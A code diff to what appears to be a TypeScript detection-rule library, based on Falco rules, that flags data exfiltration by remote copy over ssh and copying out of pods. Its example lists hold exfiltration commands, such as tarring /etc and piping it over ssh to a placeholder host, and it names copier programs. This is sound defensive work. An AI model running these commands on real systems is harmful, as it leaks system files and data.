@@ -14,6 +14,7 @@ import {
 } from "../execution/calls.ts";
 import { inContainer, onHost, opened, ran } from "../execution/examples.ts";
 import { containerRuntimes, remoteCopiers } from "../execution/programs.ts";
+import { behind } from "../gates.ts";
 import { exfiltration } from "./data-ways.ts";
 
 /** Copying files to other hosts, clouds, or out of containers. */
@@ -80,10 +81,13 @@ export const copiesToOtherHost: Indicator = {
   certainty: "weak",
   families: ["syscall", "plugin"],
   source: "https://github.com/falcosecurity/rules/blob/main/rules/falco-incubating_rules.yaml",
-  match: (facts) =>
-    findCall(facts.process.command, remoteCopiers, (call) =>
-      facts.container.where === "container" ? true : isRemoteTarget(call),
-    ) ?? inCommands(facts, pipedIntoSsh),
+  match: behind(
+    { programs: remoteCopiers, needs: ["joined-commands"] },
+    (facts) =>
+      findCall(facts.process.command, remoteCopiers, (call) =>
+        facts.container.where === "container" ? true : isRemoteTarget(call),
+      ) ?? inCommands(facts, pipedIntoSsh),
+  ),
   examples: {
     found: [
       ran("sh -c tar cf - /etc | ssh u@203.0.113.9 cat"),
@@ -95,6 +99,9 @@ export const copiesToOtherHost: Indicator = {
   },
 };
 
+const podCopiers = new Set(["kubectl", "oc", "docker", "podman"]);
+const packers = new Set(["tar"]);
+
 export const copiesOutOfPod: Indicator = {
   ...exfiltration,
   id: "copies-out-of-pod",
@@ -105,13 +112,16 @@ export const copiesOutOfPod: Indicator = {
   severity: "medium",
   certainty: "likely",
   source: "https://github.com/falcosecurity/rules/blob/main/rules/falco-incubating_rules.yaml",
-  match: (facts) =>
-    tarByRuntime(facts) ??
-    findCall(
-      facts.process.command,
-      new Set(["kubectl", "oc", "docker", "podman"]),
-      (call) => call.args[0]?.value === "cp" && /^[\w./-]{1,200}:/.test(operands(call)[1]?.value ?? ""),
-    ),
+  match: behind(
+    { programs: new Set([...podCopiers, ...packers]) },
+    (facts) =>
+      tarByRuntime(facts) ??
+      findCall(
+        facts.process.command,
+        podCopiers,
+        (call) => call.args[0]?.value === "cp" && /^[\w./-]{1,200}:/.test(operands(call)[1]?.value ?? ""),
+      ),
+  ),
   examples: {
     found: [
       opened("/var/lib/app/db.sqlite", "tar cf - /var/lib/app/db.sqlite", {
@@ -177,7 +187,7 @@ function tarByRuntime(facts: Facts): string | null {
   if (facts.container.where !== "container" || facts.process.name !== "tar") return null;
   const packs = findCall(
     facts.process.command,
-    new Set(["tar"]),
+    packers,
     (call) => (/^-?[a-z]*c/.test(call.args[0]?.value ?? "") || hasWord(call, "--create")) && hasWord(call, "-"),
   );
   if (packs === null) return null;
